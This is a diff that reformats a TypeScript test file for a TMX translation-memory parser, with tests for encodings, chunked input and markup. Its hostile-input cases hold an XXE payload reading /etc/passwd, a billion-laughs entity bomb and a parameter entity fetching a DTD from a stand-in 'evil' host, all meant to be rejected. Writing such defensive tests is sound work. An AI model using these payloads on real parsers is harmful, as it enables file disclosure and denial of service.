@@ -4,8 +4,10 @@ import { FIXED_DATE, sampleDocument } from './test-fixtures/sample-document'
 import { collect } from './test-fixtures/tools'
 import { writeTmx } from './write-tmx'
 
-const HEADER = '<header creationtool="t" creationtoolversion="1" segtype="sentence" o-tmf="t" adminlang="en" srclang="en-US" datatype="rtf"/>'
-const tmx = (body: string, header = HEADER) => `<?xml version="1.0" encoding="UTF-8"?>\n<tmx version="1.4">${header}<body>${body}</body></tmx>`
+const HEADER =
+  '<header creationtool="t" creationtoolversion="1" segtype="sentence" o-tmf="t" adminlang="en" srclang="en-US" datatype="rtf"/>'
+const tmx = (body: string, header = HEADER) =>
+  `<?xml version="1.0" encoding="UTF-8"?>\n<tmx version="1.4">${header}<body>${body}</body></tmx>`
 
 function utf16le(text: string): Uint8Array {
   const bytes = new Uint8Array(2 + text.length * 2)
@@ -19,13 +21,17 @@ function utf16le(text: string): Uint8Array {
 
 describe('parseTmx', () => {
   test('reads UTF-16 files with a byte order mark', async () => {
-    const text = tmx('<tu><tuv xml:lang="en-US"><seg>Hi</seg></tuv><tuv xml:lang="ko"><seg>안녕</seg></tuv></tu>').replace('UTF-8', 'UTF-16')
+    const text = tmx(
+      '<tu><tuv xml:lang="en-US"><seg>Hi</seg></tuv><tuv xml:lang="ko"><seg>안녕</seg></tuv></tu>',
+    ).replace('UTF-8', 'UTF-16')
     const file = await parseTmx(utf16le(text))
     expect(file.units[0]!.targets[0]!.text).toBe('안녕')
   })
 
   test('reads bytes split across chunks, including inside a multi-byte character', async () => {
-    const bytes = new TextEncoder().encode(tmx('<tu><tuv xml:lang="en-US"><seg>x</seg></tuv><tuv xml:lang="ru"><seg>Привет</seg></tuv></tu>'))
+    const bytes = new TextEncoder().encode(
+      tmx('<tu><tuv xml:lang="en-US"><seg>x</seg></tuv><tuv xml:lang="ru"><seg>Привет</seg></tuv></tu>'),
+    )
     const chunks = Array.from({ length: Math.ceil(bytes.length / 7) }, (_, i) => bytes.subarray(i * 7, i * 7 + 7))
     const file = await parseTmx(chunks)
     expect(file.units[0]!.targets[0]!.text).toBe('Привет')
@@ -38,7 +44,11 @@ describe('parseTmx', () => {
         '<tuv lang="RU-RU"><seg><bpt i="1">{\\cf1 </bpt>Цвет<ept i="1">}</ept></seg></tuv></tu></body></tmx>',
     )
     const [unit] = file.units
-    expect(unit!.source!.content.content[0]!.content![0]).toEqual({ type: 'text', text: 'Bold', marks: [{ type: 'bold' }] })
+    expect(unit!.source!.content.content[0]!.content![0]).toEqual({
+      type: 'text',
+      text: 'Bold',
+      marks: [{ type: 'bold' }],
+    })
     expect(unit!.source!.text).toBe('Bold and ⟦{\\field}⟧ ⟦{\\x}⟧')
     expect(unit!.source!.placeholders.map((p) => p.element)).toEqual(['ph', 'ut'])
     expect(unit!.targets[0]).toMatchObject({ lang: 'ru-RU', text: '⟦{\\cf1 ⟧Цвет⟦}⟧' })
@@ -54,31 +64,78 @@ describe('parseTmx', () => {
 
 describe('parseTmx on hostile or broken files', () => {
   const cases: [string, string | Uint8Array, string][] = [
-    ['an XXE external entity', '<?xml version="1.0"?><!DOCTYPE tmx [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><tmx version="1.4">' + HEADER + '<body><tu><tuv xml:lang="en"><seg>&xxe;</seg></tuv></tu></body></tmx>', 'errors.import.doctype'],
-    ['a billion laughs', '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><tmx>&lol3;</tmx>', 'errors.import.doctype'],
-    ['a parameter entity', '<!DOCTYPE tmx [<!ENTITY % ext SYSTEM "http://evil/x.dtd"> %ext;]><tmx/>', 'errors.import.doctype'],
-    ['a truncated file', tmx('<tu><tuv xml:lang="en"><seg>Hello</seg></tuv></tu>').slice(0, -30), 'errors.import.truncated'],
-    ['a TMX with no srclang', tmx('', '<header creationtool="t" creationtoolversion="1" segtype="sentence" o-tmf="t" adminlang="en" datatype="plaintext"/>'), 'errors.import.noSrcLang'],
-    ['a UTF-8 file that declares UTF-16', new TextEncoder().encode(tmx('').replace('UTF-8', 'UTF-16')), 'errors.import.encoding'],
-    ['a Latin-1 file that declares UTF-8', Uint8Array.from([...new TextEncoder().encode(tmx('<tu><tuv xml:lang="en-US"><seg>caf')), 0xe9, ...new TextEncoder().encode('</seg></tuv></tu></body></tmx>')]), 'errors.import.encoding'],
+    [
+      'an XXE external entity',
+      '<?xml version="1.0"?><!DOCTYPE tmx [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><tmx version="1.4">' +
+        HEADER +
+        '<body><tu><tuv xml:lang="en"><seg>&xxe;</seg></tuv></tu></body></tmx>',
+      'errors.import.doctype',
+    ],
+    [
+      'a billion laughs',
+      '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><tmx>&lol3;</tmx>',
+      'errors.import.doctype',
+    ],
+    [
+      'a parameter entity',
+      '<!DOCTYPE tmx [<!ENTITY % ext SYSTEM "http://evil/x.dtd"> %ext;]><tmx/>',
+      'errors.import.doctype',
+    ],
+    [
+      'a truncated file',
+      tmx('<tu><tuv xml:lang="en"><seg>Hello</seg></tuv></tu>').slice(0, -30),
+      'errors.import.truncated',
+    ],
+    [
+      'a TMX with no srclang',
+      tmx(
+        '',
+        '<header creationtool="t" creationtoolversion="1" segtype="sentence" o-tmf="t" adminlang="en" datatype="plaintext"/>',
+      ),
+      'errors.import.noSrcLang',
+    ],
+    [
+      'a UTF-8 file that declares UTF-16',
+      new TextEncoder().encode(tmx('').replace('UTF-8', 'UTF-16')),
+      'errors.import.encoding',
+    ],
+    [
+      'a Latin-1 file that declares UTF-8',
+      Uint8Array.from([
+        ...new TextEncoder().encode(tmx('<tu><tuv xml:lang="en-US"><seg>caf')),
+        0xe9,
+        ...new TextEncoder().encode('</seg></tuv></tu></body></tmx>'),
+      ]),
+      'errors.import.encoding',
+    ],
     ['a UTF-16 file that declares UTF-8', utf16le(tmx('')), 'errors.import.encoding'],
     ['malformed XML', tmx('<tu><tuv xml:lang="en"><seg>a < b</seg></tuv></tu>'), 'errors.import.malformedXml'],
     ['an empty file', '', 'errors.import.empty'],
   ]
   test.each(cases)('%s gives a clear error code', async (_name, input, code) => {
-    const error = await parseTmx(input).then(() => undefined, (e: unknown) => e)
+    const error = await parseTmx(input).then(
+      () => undefined,
+      (e: unknown) => e,
+    )
     expect(error).toMatchObject({ code })
     if (input !== '') expect((error as { line: number }).line).toBeGreaterThan(0)
   })
 
   test('a file over the configured size limit stops with errors.import.tooLarge', async () => {
     const big = tmx('<tu><tuv xml:lang="en-US"><seg>x</seg></tuv></tu>'.repeat(200))
-    await expect(parseTmx(new TextEncoder().encode(big), { maxBytes: 1000 })).rejects.toMatchObject({ code: 'errors.import.tooLarge' })
+    await expect(parseTmx(new TextEncoder().encode(big), { maxBytes: 1000 })).rejects.toMatchObject({
+      code: 'errors.import.tooLarge',
+    })
     await expect(parseTmx(big, { maxBytes: 1000 })).rejects.toMatchObject({ code: 'errors.import.tooLarge' })
   })
 
   test('a DOCTYPE that only names the TMX DTD is accepted and never fetched', async () => {
-    const file = await parseTmx(tmx('<tu><tuv xml:lang="en-US"><seg>x</seg></tuv></tu>').replace('<tmx', '<!DOCTYPE tmx SYSTEM "http://example.invalid/tmx14.dtd">\n<tmx'))
+    const file = await parseTmx(
+      tmx('<tu><tuv xml:lang="en-US"><seg>x</seg></tuv></tu>').replace(
+        '<tmx',
+        '<!DOCTYPE tmx SYSTEM "http://example.invalid/tmx14.dtd">\n<tmx',
+      ),
+    )
     expect(file.units).toHaveLength(1)
   })
 })
